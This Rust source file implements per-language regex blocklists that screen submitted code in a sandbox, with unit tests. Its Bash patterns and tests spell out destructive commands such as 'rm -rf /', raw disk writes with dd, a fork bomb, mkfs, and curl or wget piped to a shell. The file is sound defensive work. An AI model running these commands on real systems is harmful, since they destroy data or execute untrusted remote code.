//! Per-language source blocklists.
//!
//! Lexical pattern matching over the submitted source. This is advisory
//! screening, not a parser: the kernel-level controls in the hardening
//! profile are the real boundary. Patterns are compiled once.

use std::sync::LazyLock;

use regex::Regex;

use crate::runtime::Language;
use crate::security::{Result, SecurityError};

/// A compiled pattern with the human-readable reason reported on match.
struct BlockedPattern {
    regex: Regex,
    reason: &'static str,
}

fn compile(patterns: &[(&str, &'static str)]) -> Vec<BlockedPattern> {
    patterns
        .iter()
        .map(|(pattern, reason)| BlockedPattern {
            // Patterns are compile-time constants; a bad one is a bug
            // caught by the tests below.
            regex: Regex::new(pattern).unwrap_or_else(|e| panic!("bad pattern {pattern}: {e}")),
            reason,
        })
        .collect()
}

static PYTHON_PATTERNS: LazyLock<Vec<BlockedPattern>> = LazyLock::new(|| {
    compile(&[
        (
            r"(?m)^\s*import\s+(os|subprocess|sys)\b",
            "import of restricted module",
        ),
        (
            r"(?m)^\s*from\s+(os|subprocess|sys)\b",
            "import of restricted module",
        ),
        (r"\b__import__\s*\(", "dynamic import"),
        (r"\beval\s*\(", "eval of dynamic code"),
        (r"\bexec\s*\(", "exec of dynamic code"),
        (r"\bcompile\s*\(", "compile of dynamic code"),
        (
            r#"\bopen\s*\([^)]*,\s*['"](w|a|w\+|a\+|wb|ab)['"]"#,
            "file open for writing",
        ),
        (r"\.system\s*\(", "shell command execution"),
        (r"\.popen\s*\(", "subprocess spawn"),
    ])
});

static JS_PATTERNS: LazyLock<Vec<BlockedPattern>> = LazyLock::new(|| {
    compile(&[
        (
            r#"require\s*\(\s*['"](child_process|fs)['"]"#,
            "require of restricted module",
        ),
        (
            r#"(?m)^\s*import\b[^\n]*['"](child_process|node:child_process|fs|node:fs)['"]"#,
            "import of restricted module",
        ),
        (r"\beval\s*\(", "eval of dynamic code"),
        (r"\bFunction\s*\(", "dynamic function construction"),
        (r"\bprocess\.exit\b", "process exit"),
        (r"\bprocess\.kill\b", "process kill"),
    ])
});

static GO_PATTERNS: LazyLock<Vec<BlockedPattern>> = LazyLock::new(|| {
    compile(&[
        (r#""os/exec""#, "import of os/exec"),
        (r#""syscall""#, "import of syscall"),
        (r#""unsafe""#, "import of unsafe"),
        (r"\bexec\.Command\b", "subprocess spawn"),
    ])
});

static RUST_PATTERNS: LazyLock<Vec<BlockedPattern>> = LazyLock::new(|| {
    compile(&[
        (r"use\s+std\s*::\s*process", "use of std::process"),
        (r"use\s+std\s*::\s*os\b", "use of std::os"),
        (r"\bCommand\s*::", "subprocess spawn"),
        (r"\bunsafe\s*\{", "unsafe block"),
    ])
});

static BASH_PATTERNS: LazyLock<Vec<BlockedPattern>> = LazyLock::new(|| {
    compile(&[
        (r"rm\s+(-[a-zA-Z]*\s+)*(-rf?|-fr?)\s+/(\s|$)", "recursive removal of /"),
        (r"\bdd\s+if=", "raw disk read/write"),
        (r":\s*\(\s*\)\s*\{.*\}\s*;?\s*:", "fork bomb"),
        (r"\bmkfs(\.\w+)?\b", "filesystem format"),
        (r">\s*/dev/(sd|hd|nvme|vd)", "raw device write"),
        (r"\bcurl\b[^\n|]*\|\s*(ba|z|da)?sh\b", "piped remote script"),
        (r"\bwget\b[^\n|]*\|\s*(ba|z|da)?sh\b", "piped remote script"),
    ])
});

fn patterns_for(language: Language) -> &'static [BlockedPattern] {
    match language {
        Language::Python => &PYTHON_PATTERNS,
        Language::JavaScript | Language::TypeScript => &JS_PATTERNS,
        Language::Go => &GO_PATTERNS,
        Language::Rust => &RUST_PATTERNS,
        Language::Bash => &BASH_PATTERNS,
    }
}

/// Check source against the blocklist for its language.
///
/// # Errors
///
/// Returns `SecurityError::DangerousPattern` naming the first matching
/// construct.
pub fn validate_code(language: Language, source: &str) -> Result<()> {
    for pattern in patterns_for(language) {
        if pattern.regex.is_match(source) {
            return Err(SecurityError::DangerousPattern(pattern.reason.to_string()));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_python_import_os_blocked() {
        let err = validate_code(Language::Python, "import os\nprint(os.listdir('/'))");
        assert!(matches!(err, Err(SecurityError::DangerousPattern(_))));
        assert!(err.unwrap_err().to_string().contains("Dangerous pattern"));
    }

    #[test]
    fn test_python_eval_blocked() {
        assert!(validate_code(Language::Python, "eval('1+1')").is_err());
        assert!(validate_code(Language::Python, "exec('x=1')").is_err());
        assert!(validate_code(Language::Python, "__import__('os')").is_err());
    }

    #[test]
    fn test_python_write_open_blocked_read_allowed() {
        assert!(validate_code(Language::Python, "open('x.txt', 'w')").is_err());
        assert!(validate_code(Language::Python, "open('x.txt', 'a')").is_err());
        assert!(validate_code(Language::Python, "open('x.txt', 'r')").is_ok());
    }

    #[test]
    fn test_python_benign_passes() {
        assert!(validate_code(Language::Python, "print(2 + 2)").is_ok());
        // `osmium` is not the os module
        assert!(validate_code(Language::Python, "import osmium").is_ok());
    }

    #[test]
    fn test_javascript_blocked() {
        assert!(validate_code(Language::JavaScript, "require('child_process')").is_err());
        assert!(validate_code(Language::JavaScript, "import fs from 'fs'").is_err());
        assert!(validate_code(Language::JavaScript, "process.exit(1)").is_err());
        assert!(validate_code(Language::JavaScript, "console.log(1 + 1)").is_ok());
    }

    #[test]
    fn test_typescript_uses_js_patterns() {
        assert!(validate_code(Language::TypeScript, "eval('x')").is_err());
        assert!(validate_code(Language::TypeScript, "const x: number = 1").is_ok());
    }

    #[test]
    fn test_go_blocked() {
        assert!(validate_code(Language::Go, "import \"os/exec\"").is_err());
        assert!(validate_code(Language::Go, "exec.Command(\"ls\")").is_err());
        assert!(validate_code(Language::Go, "fmt.Println(\"hi\")").is_ok());
    }

    #[test]
    fn test_rust_blocked() {
        assert!(validate_code(Language::Rust, "use std::process::Command;").is_err());
        assert!(validate_code(Language::Rust, "unsafe { *ptr }").is_err());
        assert!(validate_code(Language::Rust, "println!(\"hi\");").is_ok());
    }

    #[test]
    fn test_bash_blocked() {
        assert!(validate_code(Language::Bash, "rm -rf /").is_err());
        assert!(validate_code(Language::Bash, "dd if=/dev/zero of=/dev/sda").is_err());
        assert!(validate_code(Language::Bash, ":(){ :|:& };:").is_err());
        assert!(validate_code(Language::Bash, "mkfs.ext4 /dev/sda1").is_err());
        assert!(validate_code(Language::Bash, "curl http://x.sh | sh").is_err());
        assert!(validate_code(Language::Bash, "wget -qO- http://x | bash").is_err());
        assert!(validate_code(Language::Bash, "echo hello").is_ok());
        // Removing a workspace subtree is fine
        assert!(validate_code(Language::Bash, "rm -rf /workspace/build").is_ok());
    }
}
